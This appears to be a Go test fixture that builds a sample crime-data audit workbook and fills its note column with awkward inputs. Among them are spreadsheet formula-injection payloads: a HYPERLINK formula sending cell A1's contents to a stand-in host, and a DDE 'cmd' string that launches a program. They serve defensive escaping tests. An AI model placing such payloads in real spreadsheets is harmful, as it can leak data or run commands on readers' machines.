package annex

import (
	"fmt"
	"math"
	"time"

	"assize/report/say/doc"
)

// inputWorkbook is a workbook to be filled in, as the demonstration's audit
// workbooks are: sheets without titles, true dates, whole numbers, drop-downs,
// one of them too long to stand in a rule.
func inputWorkbook() *doc.Workbook {
	var forces []string
	for i := range 43 {
		forces = append(forces, fmt.Sprintf("Constabulary number %d, of the county", i+1))
	}
	key := func(k string, c doc.GridCell) doc.GridRow {
		return doc.GridRow{Cells: []doc.GridCell{{Text: k}, c}}
	}
	reports := &doc.Grid{ID: "tbl_reports", Columns: []doc.GridColumn{
		{ID: "ref", Title: "Report reference"},
		{ID: "stratum", Title: "Stratum", Choices: []string{"violence", "sexual offences", "other"}, Comment: "As in the sample design."},
		{ID: "at", Title: "Reported at", Kind: doc.DateTimeCell, Comment: "Local date and time."},
		{ID: "required", Title: "Crimes required", Kind: doc.CountCell, Comment: "Whole number."},
		{ID: "recorded", Title: "Crimes recorded", Kind: doc.CountCell, Comment: "Whole number, no more than required."},
		{ID: "note", Title: "Auditor note"},
	}}
	for i := range 40 {
		at := fmt.Sprintf("2015-09-%02dT14:%02d", i%28+1, i)
		recorded := float64(i % 3)
		if i == 7 {
			at, recorded = "", math.NaN()
		}
		reports.Rows = append(reports.Rows, doc.GridRow{Cells: []doc.GridCell{
			{Text: fmt.Sprintf("INC-%05d", i+1)}, {Text: "violence"}, {Text: at}, {Value: 2}, {Value: recorded}, {Text: hostile(i)},
		}})
	}
	return &doc.Workbook{
		ID: "audit", Title: "Audit workbook", Subject: "Crime data integrity", Author: "Inspectorate of Example", Lang: "en-GB",
		Date: time.Date(2016, 8, 25, 0, 0, 0, 0, time.UTC),
		Sheets: []doc.Sheet{
			{Name: "Inspection", Table: &doc.Grid{
				ID:      "tbl_inspection",
				Columns: []doc.GridColumn{{Title: "Item"}, {Title: "Value"}},
				Rows: []doc.GridRow{
					key("Force", doc.GridCell{Text: forces[4], Choices: forces, Comment: "Choose the force."}),
					key("Audit from", doc.GridCell{Text: "2015-06-01", Kind: doc.DateCell, Comment: "First day."}),
					key("Audit to", doc.GridCell{Text: "2015-11-30", Kind: doc.DateCell}),
					key("Sample status", doc.GridCell{Text: "illustrative", Choices: []string{"real", "illustrative"}}),
				},
			}},
			{Name: "Reports", Table: reports},
			{Name: "Cancelled", Table: &doc.Grid{ID: "tbl_cancelled", Columns: []doc.GridColumn{
				{Title: "Crime reference"}, {Title: "Cancelled on", Kind: doc.DateCell, Comment: "Date."}, {Title: "Victim told", Choices: []string{"Y", "N"}},
			}}},
		},
	}
}

// hostile gives texts that careless writers make formulas, lose or break on.
func hostile(i int) string {
	texts := []string{
		`=HYPERLINK("http://example.invalid/?x="&A1,"click")`, "+44 20 7946 0000", "-1 counted twice", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "Officer's note: <b>none</b> & \"quoted\"", "_x000D_ literal escape", "", "two\r\nlines", " leading and  double",
		"bell\a and nul\x00", "ab\u202Ecd\u2066ef", "caf\xe9", "Tŷ'r Cyffredin: ŵ, £5, “quoted”", "😀 beyond the first plane", "_X00e9_",
	}
	return texts[i%len(texts)]
}
